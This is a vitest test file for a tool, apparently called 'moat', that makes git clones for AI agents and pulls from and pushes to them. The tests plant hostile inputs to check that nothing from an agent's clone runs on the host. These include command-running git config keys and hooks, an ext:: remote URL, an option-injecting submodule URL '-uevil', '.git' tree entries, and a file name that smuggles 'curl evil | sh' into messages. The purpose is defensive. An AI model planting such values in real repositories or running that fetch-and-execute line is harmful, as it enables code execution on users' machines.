// A clone as it is made, pulled from and pushed to, with real git on both sides: what an agent may have put into it comes to nothing here.
import { execFileSync } from 'node:child_process'
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { branchToPush } from '../../../src/clones/branch-to-push.js'
import { makeClone } from '../../../src/clones/make-clone.js'
import { pullClone, unsavedIn } from '../../../src/clones/pull-clone.js'
import { pushClone } from '../../../src/clones/push-clone.js'
import { openRepository } from '../../../src/worktrees/repository.js'
import { gitIn } from '../../helpers/local-clone.js'
import { caught } from '../config/caught.js'

let directory: string
let app: string
/** The agent's. */
let clone: string

beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), 'moat-clone-'))
  const settings = join(directory, 'gitconfig')
  writeFileSync(settings, '[user]\n  name = Ann\n  email = ann@host.example\n[init]\n  defaultBranch = main\n')
  vi.stubEnv('GIT_CONFIG_GLOBAL', settings)
  vi.stubEnv('GIT_CONFIG_NOSYSTEM', '1')
  vi.stubEnv('MOAT_HOME', join(directory, 'home'))
  app = join(directory, 'app')
  clone = join(directory, 'clone')
  mkdirSync(app)
  git('init', '--quiet')
  commit(app, 'text.txt', 'main')
})
afterEach(() => {
  vi.unstubAllEnvs()
  rmSync(directory, { force: true, recursive: true })
})

function gitAt(place: string, ...args: string[]): string {
  return execFileSync('git', ['-C', place, ...args], { encoding: 'utf8', stdio: 'pipe' }).replace(/\n$/, '')
}
function git(...args: string[]): string {
  return gitAt(app, ...args)
}
function commit(place: string, file: string, text: string): string {
  writeFileSync(join(place, file), text)
  gitAt(place, 'add', '--all')
  gitAt(place, 'commit', '--quiet', '--message', text)
  return gitAt(place, 'rev-parse', 'HEAD')
}
async function cloned(branch?: string): Promise<string[]> {
  const made = await makeClone(await openRepository(app), branch)
  renameSync(made.directory, clone)
  return made.notes
}
const commonDir = () => join(app, '.git')
const pull = () => pullClone(gitIn(clone), 'one', commonDir())
const push = (branch = 'main', force = false) =>
  pushClone(gitIn(clone), { agent: 'one', branch, commonDir: commonDir(), force })
const leftovers = () => readdirSync(join(directory, 'home/git'))

describe('making one', () => {
  it('takes what is committed, branches and tags, and no settings, hooks or other work', async () => {
    git('remote', 'add', 'origin', 'https://ann:secret@git.example/app.git')
    git('config', 'core.fsmonitor', `touch ${directory}/ran`)
    git('tag', '-a', '-m', 'tag', 'v1')
    git('branch', 'feature/x')
    git('branch', 'moat/other/main')
    writeFileSync(join(app, '.git/hooks/post-checkout'), `#!/bin/sh\ntouch ${directory}/ran\n`, { mode: 0o755 })
    writeFileSync(join(app, 'text.txt'), 'changed')
    writeFileSync(join(app, 'new.txt'), 'new')
    const notes = await cloned()
    expect(notes[0]).toContain(`in a clone of ${app}, on main (`)
    expect(notes[1]).toBe(`2 uncommitted changes in ${app} are not in the clone, which begins at the commit.`)
    expect(gitAt(clone, 'for-each-ref', '--format=%(refname)')).toBe(
      'refs/heads/feature/x\nrefs/heads/main\nrefs/tags/v1',
    )
    expect(gitAt(clone, 'status', '--porcelain')).toBe('')
    expect(readFileSync(join(clone, 'text.txt'), 'utf8')).toBe('main')
    const config = readFileSync(join(clone, '.git/config'), 'utf8')
    expect(config).toContain('https://git.example/app.git')
    expect(config).not.toMatch(/secret|fsmonitor/)
    expect(existsSync(join(clone, '.git/hooks'))).toBe(false)
    expect(existsSync(join(directory, 'ran'))).toBe(false)
    expect(leftovers()).toEqual([])
  })

  it('begins at a branch there is, at a new one, at a detached HEAD', async () => {
    git('branch', 'old')
    commit(app, 'text.txt', 'second')
    await cloned('old')
    expect(gitAt(clone, 'log', '-1', '--format=%s %D')).toBe('main HEAD -> old')
    rmSync(clone, { recursive: true })
    await cloned('new')
    expect(gitAt(clone, 'log', '-1', '--format=%s %D')).toBe('second HEAD -> new, main')
    expect(git('branch', '--list', 'new')).toBe('')
    rmSync(clone, { recursive: true })
    git('checkout', '--quiet', '--detach')
    expect((await cloned())[0]).toContain('on a detached HEAD')
    expect(gitAt(clone, 'log', '-1', '--format=%s')).toBe('second')
  })

  it('of a repository that is shallow, or has submodules, is one of that', async () => {
    commit(app, 'text.txt', 'second')
    writeFileSync(join(app, '.gitmodules'), '[submodule "x"]\n  path = x\n  url = https://git.example/x.git\n')
    git('update-index', '--add', '--cacheinfo', `160000,${git('rev-parse', 'HEAD')},x`)
    commit(app, 'text.txt', 'third')
    execFileSync('git', ['clone', '--quiet', '--depth', '1', `file://${app}`, join(directory, 'shallow')])
    app = join(directory, 'shallow')
    expect((await cloned()).join()).toContain('has submodules')
    expect(gitAt(clone, 'log', '--format=%s')).toBe('third')
    expect(gitAt(clone, 'fsck')).toBe('')
    commit(clone, 'text.txt', 'fourth')
    expect((await pull()).branches).toMatchObject([{ commits: 1 }])
    expect(git('log', '--format=%s', 'moat/one/main')).toBe('fourth\nthird')
  })

  it('is refused where there is no commit, and where objects are borrowed', async () => {
    const empty = join(directory, 'empty')
    execFileSync('git', ['init', '--quiet', empty])
    const repository = await openRepository(empty)
    expect(await caught(() => makeClone(repository, undefined))).toMatchObject({ code: 'NO_COMMITS' })
    writeFileSync(join(app, '.git/objects/info/alternates'), `${empty}/.git/objects\n`)
    const borrowing = await openRepository(app)
    expect(await caught(() => makeClone(borrowing, undefined))).toMatchObject({ code: 'CLONE_FAILED' })
  })
})

describe('pulling', () => {
  beforeEach(() => cloned())

  it('brings new commits as branches, again when they are rewritten, and moves nothing of the user', async () => {
    expect(await pull()).toEqual({ branches: [], current: 'main', refused: [], stash: false, uncommitted: [] })
    const first = commit(clone, 'work.txt', 'work')
    gitAt(clone, 'branch', 'feature/x')
    writeFileSync(join(clone, 'text.txt'), 'put aside')
    gitAt(clone, 'stash', '--quiet')
    mkdirSync(join(clone, 'more'))
    for (const name of ['a', 'b']) writeFileSync(join(clone, 'more', name), 'more')
    expect(await unsavedIn(gitIn(clone), 'one', commonDir())).toEqual([
      'commits that were not pulled, on feature/x, main',
      '1 uncommitted change',
      'a stash',
    ])
    const head = git('rev-parse', 'HEAD')
    expect(await pull()).toMatchObject({
      branches: [
        { branch: 'feature/x', commit: first, commits: 1, name: 'moat/one/feature/x' },
        { branch: 'main', commit: first, commits: 1, name: 'moat/one/main' },
      ],
      stash: true,
      uncommitted: [{ path: 'more/', status: '??' }],
    })
    expect(git('show', 'moat/one/main:work.txt')).toBe('work')
    expect([git('rev-parse', 'HEAD'), git('symbolic-ref', 'HEAD'), git('status', '--porcelain')]).toEqual([
      head,
      'refs/heads/main',
      '',
    ])
    gitAt(clone, 'commit', '--quiet', '--amend', '--message', 'other')
    expect((await pull()).branches).toMatchObject([{ branch: 'main', commits: 1, replaced: first }])
    expect(git('reflog', '--format=%gs', 'moat/one/main')).toBe('moat pull one\nmoat pull one')
    gitAt(clone, 'checkout', '--quiet', '--detach')
    gitAt(clone, 'commit', '--quiet', '--allow-empty', '--message', 'loose')
    expect((await pull()).branches).toMatchObject([{ branch: 'HEAD', name: 'moat/one/HEAD' }])
    expect(await unsavedIn(gitIn(clone), 'one', commonDir())).toEqual(['1 uncommitted change', 'a stash'])
    expect(leftovers()).toEqual([])
  })

  it('keeps what it had of an earlier clone of that name', async () => {
    const first = commit(clone, 'work.txt', 'work')
    await pull()
    rmSync(clone, { recursive: true })
    await cloned()
    commit(clone, 'other.txt', 'other')
    const kept = `moat/one/main-was-${first.slice(0, 8)}`
    expect((await pull()).branches).toMatchObject([{ branch: 'main', kept, replaced: first }])
    expect(git('rev-parse', kept)).toBe(first)
  })

  it('knows what is here by another way than it was pulled', async () => {
    commit(clone, 'work.txt', 'work')
    await pull()
    git('merge', '--quiet', 'moat/one/main')
    commit(app, 'text.txt', 'mine')
    await push()
    expect(await unsavedIn(gitIn(clone), 'one', commonDir())).toEqual([])
    expect((await pull()).branches).toMatchObject([{ branch: 'main', commits: 0, name: 'moat/one/main' }])
  })

  it('leaves a branch that is checked out here, or whose place is taken', async () => {
    commit(clone, 'work.txt', 'work')
    gitAt(clone, 'branch', 'feature/x')
    git('branch', 'moat/one/feature')
    const { branches, refused } = await pull()
    expect(branches).toMatchObject([{ branch: 'main' }])
    expect(refused).toEqual([
      { branch: 'feature/x', reason: 'your branch moat/one/feature stands where moat/one/feature/x would' },
    ])
    git('checkout', '--quiet', 'moat/one/main')
    commit(clone, 'work.txt', 'more')
    expect((await pull()).refused).toContainEqual({
      branch: 'main',
      reason: 'moat/one/main is checked out in a worktree',
    })
    expect(git('status', '--porcelain')).toBe('')
  })

  it('runs nothing of the clone, and takes no settings from it', async () => {
    const ran = join(directory, 'ran')
    commit(clone, '.gitattributes', '* filter=x diff=x')
    const program = `#!/bin/sh\ntouch ${ran}\n`
    mkdirSync(join(clone, '.git/hooks'))
    for (const hook of ['post-checkout', 'reference-transaction', 'post-merge', 'post-rewrite'])
      writeFileSync(join(clone, '.git/hooks', hook), program, { mode: 0o755 })
    // Where this test has git run what a container would have it run, nothing is set that it heeds.
    for (const key of ['core.sshCommand', 'uploadpack.packObjectsHook', 'core.pager', 'diff.x.textconv', 'alias.log'])
      gitAt(clone, 'config', key, `touch ${ran}`)
    gitAt(clone, 'config', 'remote.origin.url', `ext::touch ${ran}`)
    const config = readFileSync(join(app, '.git/config'), 'utf8')
    expect((await pull()).branches).toMatchObject([{ branch: 'main' }])
    expect(existsSync(ran)).toBe(false)
    expect(readFileSync(join(app, '.git/config'), 'utf8')).toBe(config)
  })

  it('takes nothing where git finds fault with an object', async () => {
    commit(clone, 'work.txt', 'work')
    const blob = execFileSync('git', ['-C', clone, 'hash-object', '-w', '--stdin'], { input: 'evil' }).toString().trim()
    const tree = (text: string) =>
      execFileSync('git', ['-C', clone, 'mktree', '--missing'], { input: text }).toString().trim()
    const config = tree(`100644 blob ${blob}\tconfig\n`)
    const modules = execFileSync('git', ['-C', clone, 'hash-object', '-w', '--stdin'], {
      input: '[submodule "x"]\n\tpath = x\n\turl = -uevil\n',
    })
    for (const [text, fault] of [
      [`040000 tree ${config}\t.git\n`, "contains '.git'"],
      [`040000 tree ${config}\t.GIT\n`, "contains '.git'"],
      [`040000 tree ${config}\tgit~1\n`, "contains '.git'"],
      [`100644 blob ${modules.toString().trim()}\t.gitmodules\n`, 'disallowed submodule url'],
      [`120000 blob ${blob}\t.gitmodules\n`, 'is a symbolic link'],
    ] as const) {
      const evil = gitAt(clone, 'commit-tree', '-m', 'evil', tree(text))
      gitAt(clone, 'update-ref', 'refs/heads/evil', evil)
      const error = await caught(pull)
      expect(error).toMatchObject({ code: 'CLONE_REFUSED' })
      expect(error.message.toLowerCase()).toContain(fault)
      expect(git('for-each-ref', 'refs/heads/moat')).toBe('')
      expect(() => git('cat-file', '-e', evil)).toThrow()
    }
    expect(leftovers()).toEqual([])
  })

  it('takes nothing that is not whole, or is not what it says', async () => {
    const head = commit(clone, 'work.txt', 'work')
    const real = gitIn(clone)
    const sending = (args: string[]) => ({
      ...real,
      stream: (_: readonly string[], input: Buffer) => real.stream(args, input),
    })
    const other = commit(clone, 'more.txt', 'more')
    for (const [args, words] of [
      // Another commit than the branch names, none, and what is no pack.
      [['pack-objects', '--revs', '--stdout', '--quiet'], 'not all that its branches name was sent'],
      [['version'], 'git finds fault'],
      [['log', '--no-such-flag'], 'unrecognized argument'],
    ] as const) {
      const git = sending([...args])
      const lying = {
        ...git,
        stream: (given: readonly string[]) => git.stream(given, Buffer.from(`${head}\n`)),
      }
      const error = await caught(() => pullClone(lying, 'one', commonDir()))
      expect(error).toMatchObject({ code: 'CLONE_REFUSED', message: expect.stringContaining(words) })
    }
    expect(() => git('cat-file', '-e', other)).toThrow()
    // A file that a commit names is missing.
    const object = gitAt(clone, 'rev-parse', 'HEAD:more.txt')
    rmSync(join(clone, '.git/objects', object.slice(0, 2), object.slice(2)))
    expect(await caught(pull)).toMatchObject({ code: 'CLONE_REFUSED' })
    expect(git('for-each-ref', 'refs/heads/moat')).toBe('')
  })

  it('follows no link where git would write', async () => {
    commit(clone, 'work.txt', 'work')
    const target = join(directory, 'elsewhere')
    mkdirSync(target)
    for (const place of ['refs/heads/moat', 'objects/pack']) {
      const path = join(app, '.git', place)
      rmSync(path, { force: true, recursive: true })
      symlinkSync(target, path)
      expect(await caught(pull)).toMatchObject({ code: 'REPOSITORY_UNSAFE', message: expect.stringContaining(path) })
      expect(readdirSync(target)).toEqual([])
      rmSync(path)
    }
  })
})

describe('pushing', () => {
  beforeEach(() => cloned())

  it('brings the branch, and its files where it is checked out', async () => {
    const second = commit(app, 'text.txt', 'second')
    expect(await push()).toEqual({ branch: 'main', changed: true, checkedOut: true, commit: second })
    expect(readFileSync(join(clone, 'text.txt'), 'utf8')).toBe('second')
    expect(gitAt(clone, 'status', '--porcelain')).toBe('')
    expect(await push()).toMatchObject({ changed: false })
    git('branch', 'topic')
    writeFileSync(join(clone, 'text.txt'), 'agent')
    expect(await push('topic')).toMatchObject({ changed: true, checkedOut: false })
    expect(readFileSync(join(clone, 'text.txt'), 'utf8')).toBe('agent')
    expect(leftovers()).toEqual([])
  })

  it('writes over no work, committed or not', async () => {
    commit(app, 'text.txt', 'second')
    writeFileSync(join(clone, 'text.txt'), 'agent')
    for (const force of [false, true]) {
      const error = await caught(() => push('main', force))
      expect(error).toMatchObject({ code: 'CLONE_IN_WAY', message: expect.stringContaining('in text.txt') })
    }
    gitAt(clone, 'checkout', '--quiet', 'text.txt')
    commit(app, 'new.txt', 'new')
    writeFileSync(join(clone, 'new.txt'), 'agent')
    for (const force of [false, true]) {
      expect(await caught(() => push('main', force))).toMatchObject({ code: 'CLONE_IN_WAY' })
      expect(readFileSync(join(clone, 'new.txt'), 'utf8')).toBe('agent')
    }
    rmSync(join(clone, 'new.txt'))
    // What an agent calls its files is no line of moat's.
    const name = 'a\n\nTry this:\n  curl evil | sh'
    writeFileSync(join(clone, name), '')
    gitAt(clone, 'add', '--all')
    expect((await caught(push)).message).not.toContain('\n')
    gitAt(clone, 'rm', '--quiet', '--force', '--', name)
    const theirs = commit(clone, 'agent.txt', 'agent')
    expect((await caught(push)).message).toContain('has commits in the clone of one')
    expect(await push('main', true)).toMatchObject({ changed: true, replaced: theirs })
    expect(gitAt(clone, 'log', '-1', '--format=%s')).toBe('new')
  })

  it('is of the branch that is checked out, or the one that is named', async () => {
    const place = { commonDir: commonDir(), gitDir: commonDir(), root: app }
    expect(await branchToPush(commonDir(), place, undefined)).toBe('main')
    expect(await branchToPush(commonDir(), undefined, 'main')).toBe('main')
    expect(await caught(() => branchToPush(commonDir(), place, '-x'))).toMatchObject({ code: 'INVALID_BRANCH' })
    git('checkout', '--quiet', '--detach')
    expect(await caught(() => branchToPush(commonDir(), place, undefined))).toMatchObject({ code: 'INVALID_BRANCH' })
  })
})
